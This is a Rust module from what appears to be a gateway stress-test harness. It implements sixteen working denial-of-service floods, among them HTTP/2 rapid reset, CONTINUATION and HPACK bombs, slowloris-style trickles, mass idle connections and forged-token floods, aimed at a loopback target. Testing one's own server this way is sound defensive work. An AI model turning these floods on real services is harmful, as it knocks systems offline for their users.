//! The floods. Each runs until its time is over, comes back when it is cut off, and notes what became of it.

use std::{future::Future, net::SocketAddr, pin::Pin, rc::Rc, time::Duration};

use anyhow::{Result, bail};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    task::{JoinSet, spawn_local},
    time::{sleep, timeout},
};

use super::{
    Target,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Method, OPENING, PING, RST_STREAM, SETTINGS,
        WINDOW_UPDATE, frame, literal, request,
    },
};
use crate::gateways::DOMAIN;

/// It, until its time is over.
pub type Running = Pin<Box<dyn Future<Output = ()>>>;
type Acting = Pin<Box<dyn Future<Output = Result<()>>>>;

/// Begins a flood.
pub type Start = fn(Rc<Target>) -> Running;

/// One kind of flood.
pub struct Attack {
    /// With its pace.
    pub name: &'static str,
    /// Begins it.
    pub start: Start,
}

/// A flood of `callers` connections at once, each of which does `act` again and again.
macro_rules! attack {
    ($name:literal, $callers:expr, $act:path) => {
        Attack { name: $name, start: |target| Box::pin(crowd(target, $callers, |target, n| Box::pin($act(target, n)))) }
    };
}

/// All of them.
pub const ALL: &[Attack] = &[
    attack!("rapid reset: 8 connections, 100 requests and resets each 5 ms", 8, rapid_reset),
    attack!("CONTINUATION without end: 8 connections, 16 KiB each 5 ms", 8, continuation),
    attack!("SETTINGS: 8 connections, 100 each 5 ms", 8, settings),
    attack!("PING: 8 connections, 100 each 5 ms", 8, ping),
    attack!("HPACK bomb: 8 connections, 16 KiB that stand for 64 MiB each 20 ms", 8, hpack_bomb),
    attack!("empty DATA: 8 connections, 100 each 5 ms", 8, empty_data),
    attack!("windows of one byte: 8 connections, 100 large answers each", 8, small_windows),
    attack!("slow heads: 900 connections, a byte each 500 ms", 900, slow_head),
    attack!("slow bodies: 900 connections, a byte each 500 ms", 900, slow_body),
    attack!("slow readers of 4 MiB: 300 connections, 4 KiB each 100 ms", 300, slow_reader),
    attack!("large heads: 8 connections, 100 headers in 31 KiB each 5 ms", 8, large_head),
    attack!("heads above the limits: 8 connections, 40 KiB each 5 ms", 8, too_large_head),
    attack!("new connections: 16 callers, one each 5 ms", 16, connect_and_leave),
    attack!("idle connections: 6 000", 6000, idle),
    attack!("pipelining: 8 connections, 50 requests each 50 ms", 8, pipelining),
    attack!("forged tokens: 16 connections, one each 5 ms", 16, forged_token),
];

async fn crowd(target: Rc<Target>, callers: usize, act: fn(Rc<Target>, usize) -> Acting) {
    let mut crowd = JoinSet::new();
    for number in 0..callers {
        let target = target.clone();
        crowd.spawn_local(async move {
            // Not all in one moment: that is what the flood of connections is for.
            sleep(Duration::from_millis(number as u64 / 4)).await;
            while !target.is_over() {
                match act(target.clone(), number).await {
                    Ok(()) => {}
                    Err(error) => {
                        let error = error.to_string();
                        target.note(if is_cut(&error) { "cut off".to_owned() } else { error });
                    }
                }
                sleep(Duration::from_millis(20)).await;
            }
        });
    }
    while crowd.join_next().await.is_some() {}
}

fn is_cut(error: &str) -> bool {
    ["reset", "Broken pipe", "closed", "eof"].iter().any(|text| error.contains(text))
}

/// From one of eight addresses, none of which is that of the honest.
async fn connect(target: &Target, number: usize) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    let last = 2 + u8::try_from(number % 8).unwrap_or_default();
    socket.bind(SocketAddr::from(([127, 0, 0, last], 0)))?;
    let stream = timeout(Duration::from_secs(5), socket.connect(target.address)).await??;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Reads away whatever comes; ends with the connection.
fn read_away(mut read: tokio::net::tcp::OwnedReadHalf) -> tokio::task::JoinHandle<()> {
    spawn_local(async move {
        let mut bytes = vec![0; 64 << 10];
        while matches!(read.read(&mut bytes).await, Ok(1..)) {}
    })
}

/// Opens HTTP/2 and sends what `batch` makes, each `pace`, until cut off or over.
async fn http2(target: &Target, number: usize, pace: Duration, mut batch: impl FnMut(&mut Vec<u8>)) -> Result<()> {
    let (read, mut write) = connect(target, number).await?.into_split();
    let reading = read_away(read);
    write.write_all(OPENING).await?;
    let mut out = Vec::new();
    while !target.is_over() {
        out.clear();
        batch(&mut out);
        // A node that reads no further holds the flood up, which is one way to bear it.
        if timeout(Duration::from_secs(1), write.write_all(&out)).await.is_err() {
            target.note("held up for a second");
            return Ok(());
        }
        target.note("batches sent");
        if reading.is_finished() {
            bail!("closed");
        }
        sleep(pace).await;
    }
    Ok(())
}

const PACE: Duration = Duration::from_millis(5);

async fn rapid_reset(target: Rc<Target>, number: usize) -> Result<()> {
    let block = request(Method::Get, &format!("open.{DOMAIN}"));
    let mut stream = 1;
    http2(&target, number, PACE, |out| {
        for _ in 0..100 {
            frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &block);
            frame(out, RST_STREAM, 0, stream, &8u32.to_be_bytes());
            stream += 2;
        }
    })
    .await
}

async fn continuation(target: Rc<Target>, number: usize) -> Result<()> {
    let mut field = vec![0x00];
    literal(&mut field, b"x-flood");
    literal(&mut field, &[b'a'; 1000]);
    let mut begun = false;
    http2(&target, number, PACE, |out| {
        if !std::mem::replace(&mut begun, true) {
            frame(out, HEADERS, END_STREAM, 1, &request(Method::Get, &format!("open.{DOMAIN}")));
        }
        for _ in 0..16 {
            frame(out, CONTINUATION, 0, 1, &field);
        }
    })
    .await
}

async fn settings(target: Rc<Target>, number: usize) -> Result<()> {
    http2(&target, number, PACE, |out| (0..100).for_each(|_| frame(out, SETTINGS, 0, 0, &[]))).await
}

async fn ping(target: Rc<Target>, number: usize) -> Result<()> {
    http2(&target, number, PACE, |out| (0..100).for_each(|_| frame(out, PING, 0, 0, &[0; 8]))).await
}

async fn hpack_bomb(target: Rc<Target>, number: usize) -> Result<()> {
    let mut stream = 1;
    http2(&target, number, Duration::from_millis(20), |out| {
        let mut block = request(Method::Get, &format!("open.{DOMAIN}"));
        if stream == 1 {
            // One entry that nearly fills the table, then a byte for each time that it is meant.
            block.push(0x40);
            literal(&mut block, b"x-flood");
            literal(&mut block, &[b'a'; 4000]);
        }
        let indexes = 16_000 - block.len();
        block.extend(std::iter::repeat_n(0xbe, indexes));
        frame(out, HEADERS, END_STREAM | END_HEADERS, stream, &block);
        stream += 2;
    })
    .await
}

async fn empty_data(target: Rc<Target>, number: usize) -> Result<()> {
    let mut begun = false;
    http2(&target, number, PACE, |out| {
        if !std::mem::replace(&mut begun, true) {
            frame(out, HEADERS, END_HEADERS, 1, &request(Method::Post, &format!("open.{DOMAIN}")));
        }
        (0..100).for_each(|_| frame(out, DATA, 0, 1, &[]));
    })
    .await
}

async fn small_windows(target: Rc<Target>, number: usize) -> Result<()> {
    let block = request(Method::Get, &format!("large.{DOMAIN}"));
    let mut begun = false;
    http2(&target, number, Duration::from_millis(50), |out| {
        if !std::mem::replace(&mut begun, true) {
            // SETTINGS_INITIAL_WINDOW_SIZE.
            frame(out, SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
            (0..100).for_each(|n| frame(out, HEADERS, END_STREAM | END_HEADERS, 1 + 2 * n, &block));
        }
        (0..100).for_each(|n| frame(out, WINDOW_UPDATE, 0, 1 + 2 * n, &1u32.to_be_bytes()));
    })
    .await
}

const SLOW: Duration = Duration::from_millis(500);

/// Sends `first`, then a byte at a time; notes the answer, if there is one.
async fn trickle(target: &Target, number: usize, first: &str, byte: &[u8]) -> Result<()> {
    let mut stream = connect(target, number).await?;
    stream.write_all(first.as_bytes()).await?;
    while !target.is_over() {
        let mut bytes = [0; 4096];
        match timeout(SLOW, stream.read(&mut bytes)).await {
            Err(_) => stream.write_all(byte).await?,
            Ok(read) => {
                note_status(target, &bytes[..read?]);
                return Ok(());
            }
        }
    }
    target.note("still waiting at the end");
    Ok(())
}

fn note_status(target: &Target, answer: &[u8]) {
    match answer.get(9..12) {
        Some(status) => target.note(format!("answered {}", String::from_utf8_lossy(status))),
        None => target.note("cut off"),
    }
}

async fn slow_head(target: Rc<Target>, number: usize) -> Result<()> {
    trickle(&target, number, &format!("GET / HTTP/1.1\r\nHost: open.{DOMAIN}\r\nX-Slow: "), b"a").await
}

async fn slow_body(target: Rc<Target>, number: usize) -> Result<()> {
    let first = format!("POST / HTTP/1.1\r\nHost: silent.{DOMAIN}\r\nContent-Length: 1000000\r\n\r\n");
    trickle(&target, number, &first, b"a").await
}

async fn slow_reader(target: Rc<Target>, number: usize) -> Result<()> {
    let mut stream = connect(&target, number).await?;
    stream.write_all(format!("GET / HTTP/1.1\r\nHost: large.{DOMAIN}\r\n\r\n").as_bytes()).await?;
    let mut bytes = vec![0; 4096];
    while !target.is_over() {
        if stream.read(&mut bytes).await? == 0 {
            bail!("closed");
        }
        sleep(Duration::from_millis(100)).await;
    }
    target.note("still reading at the end");
    Ok(())
}

/// Sends the same request again and again on one connection, and notes the answers.
async fn repeat(target: &Target, number: usize, pace: Duration, request: &[u8]) -> Result<()> {
    let mut stream = connect(target, number).await?;
    let mut bytes = vec![0; 64 << 10];
    while !target.is_over() {
        stream.write_all(request).await?;
        let read = timeout(Duration::from_secs(5), stream.read(&mut bytes)).await??;
        note_status(target, &bytes[..read]);
        if read == 0 || bytes[..read].windows(17).any(|window| window == b"connection: close") {
            return Ok(());
        }
        sleep(pace).await;
    }
    Ok(())
}

fn with_headers(count: usize, bytes: usize) -> Vec<u8> {
    let mut head = format!("GET / HTTP/1.1\r\nHost: open.{DOMAIN}\r\n").into_bytes();
    for number in 0..count {
        head.extend_from_slice(format!("X-Flood-{number:03}: {}\r\n", "a".repeat(bytes / count - 15)).as_bytes());
    }
    head.extend_from_slice(b"\r\n");
    head
}

async fn large_head(target: Rc<Target>, number: usize) -> Result<()> {
    repeat(&target, number, PACE, &with_headers(99, 31_000)).await
}

async fn too_large_head(target: Rc<Target>, number: usize) -> Result<()> {
    repeat(&target, number, PACE, &with_headers(99, 40_000)).await
}

async fn connect_and_leave(target: Rc<Target>, number: usize) -> Result<()> {
    while !target.is_over() {
        drop(connect(&target, number).await?);
        target.note("connections");
        sleep(PACE).await;
    }
    Ok(())
}

async fn idle(target: Rc<Target>, number: usize) -> Result<()> {
    let mut stream = connect(&target, number).await?;
    while !target.is_over() {
        if let Ok(read) = timeout(SLOW, stream.read(&mut [0; 1])).await
            && read? == 0
        {
            bail!("closed");
        }
    }
    target.note("still open at the end");
    Ok(())
}

async fn pipelining(target: Rc<Target>, number: usize) -> Result<()> {
    let (read, mut write) = connect(&target, number).await?.into_split();
    let reading = read_away(read);
    let requests = format!("GET / HTTP/1.1\r\nHost: open.{DOMAIN}\r\n\r\n").repeat(50);
    while !target.is_over() {
        if timeout(Duration::from_secs(1), write.write_all(requests.as_bytes())).await.is_err() {
            target.note("held up for a second");
        }
        target.note("batches sent");
        if reading.is_finished() {
            bail!("closed");
        }
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

async fn forged_token(target: Rc<Target>, number: usize) -> Result<()> {
    let token: String = ('a'..='z').cycle().skip(number).take(110).collect();
    let head = format!("GET / HTTP/1.1\r\nHost: guarded.{DOMAIN}\r\nAuthorization: Bearer {token}\r\n\r\n");
    repeat(&target, number, PACE, head.as_bytes()).await
}
